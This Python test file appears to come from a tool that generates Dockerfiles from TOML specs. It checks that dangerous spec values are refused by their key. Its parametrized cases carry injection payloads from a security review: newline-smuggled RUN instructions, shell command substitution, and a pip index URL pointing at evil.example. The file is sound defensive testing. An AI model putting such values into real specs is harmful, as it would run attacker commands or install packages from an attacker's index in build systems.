"""Spec values reach the generated Dockerfile through one quoting function (layers.quote), and a
value that cannot be written there as one word is refused at spec load, by its key (security
review f1b4bec N6: an [[images]] base, packages, requirements and [nccl] paths became new
instructions and shell, two of them executed under buildah)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from torchsmith import kb
from torchsmith.container import routes
from torchsmith.container.images import load_images
from torchsmith.container.layers import quote
from torchsmith.errors import PlanError, SpecError
from torchsmith.host.model import HostFacts
from torchsmith.spec_sources import resolve_spec

ROOT = Path(__file__).resolve().parents[3]
HOST = ROOT / "tests" / "fixtures" / "plan" / "host-ci.json"
BASE = {"torch": "2.5.1", "accelerator": "cpu", "backend": "docker"}


def _refused(tmp_path: Path, toml: str, **cli: Any) -> str:
    spec = tmp_path / "spec.toml"
    spec.write_text(toml, encoding="utf-8")
    with pytest.raises(SpecError) as info:
        resolve_spec(file=spec, cli={**BASE, **cli})
    return info.value.render()


@pytest.mark.parametrize(
    ("toml", "key"),
    [  # the review's payloads, and the other text that reaches a Dockerfile
        ('[[images]]\nname = "t"\nbase = "debian:bookworm\\nRUN echo INJECTED > /pwned"\n', "base"),
        ('[[images]]\nname = "t"\nbase = "localhost/bb AS x"\n', "base"),
        ('[[images]]\nname = "t"\nbase = "debian:bookworm\'"\n', "base"),
        ('[[images]]\nname = "t"\npackages = ["vim; echo INJECTED > /pwned2 #"]\n', "packages"),
        ('[[images]]\nname = "t"\npackages = ["$(id>/pwned3)"]\n', "packages"),
        ('[[images]]\nname = "t"\nrequirements = ["--index-url=http://evil.example/s"]\n',
         "requirements"),
        ('[[images]]\nname = "t"\nrequirements = ["tqdm\\nRUN id"]\n', "requirements"),
        ('[[images]]\nname = "t"\ntz = "UTC\\nRUN id"\n', "tz"),
        ('[[images]]\nname = "t"\nuser = "ada\'"\n', "user"),
        ('[nccl]\nroot = "/usr\'\\nRUN echo INJECTED-ENV > /pwned-env #"\n', "nccl.root"),
        ('[nccl]\nlib_dir = "/usr/lib\\u0000"\n', "nccl.lib_dir"),
        ('base_image = "debian:bookworm\\nRUN id"\n', "base_image"),
        ('git_mirror = "https://mirror.example/\\r\\nRUN id"\n', "git_mirror"),
    ],
)  # fmt: skip
def test_a_value_a_dockerfile_cannot_carry_is_refused_at_load_by_key(
    tmp_path: Path, toml: str, key: str
) -> None:
    text = _refused(tmp_path, toml)
    assert f"{key}:" in text or f".{key}:" in text, text


def test_the_values_a_training_image_takes_are_accepted() -> None:
    toml = {"base": "registry.example:5000/cuda:11.8.0-runtime-ubuntu22.04@sha256:" + "a" * 64}
    images = ({"name": "t", **toml, "packages": ("git", "libjpeg62-turbo=1:2.1.5-2"),
               "requirements": ("tqdm>=4", "numpy<2; python_version < '3.12'")},)  # fmt: skip
    spec = resolve_spec(cli={**BASE, "images": images}).spec
    assert spec.images[0].packages == ("git", "libjpeg62-turbo=1:2.1.5-2")


def test_quote_is_one_word_for_the_dockerfile_and_its_shell() -> None:
    assert quote("docker.io/library/debian:bookworm") == "docker.io/library/debian:bookworm"
    assert quote("RTX 3090") == "'RTX 3090'"
    assert quote("numpy<2; python_version < '3.12'") == (
        "'numpy<2; python_version < '\"'\"'3.12'\"'\"''"
    )
    for bad in ("a\nRUN id", "a\x00", "a\r"):
        with pytest.raises(PlanError, match="control character"):
            quote(bad)


def test_a_credential_in_any_value_the_dockerfile_carries_is_refused() -> None:
    host = HostFacts.model_validate_json(HOST.read_text())
    for key, value in {
        "cache.location": "redis://u:pw@cache.example:6379",
        "git_mirror": "https://mirror.example/?token=abc",
    }.items():
        rs = resolve_spec(cli={**BASE, "outputs": ("docker-image",), key: value})
        with pytest.raises(PlanError) as info:
            routes.for_dockerfile(rs, kb.load(), load_images(), host, (1000, 1000))
        assert f"{key}: {key} carries credentials" in info.value.render()
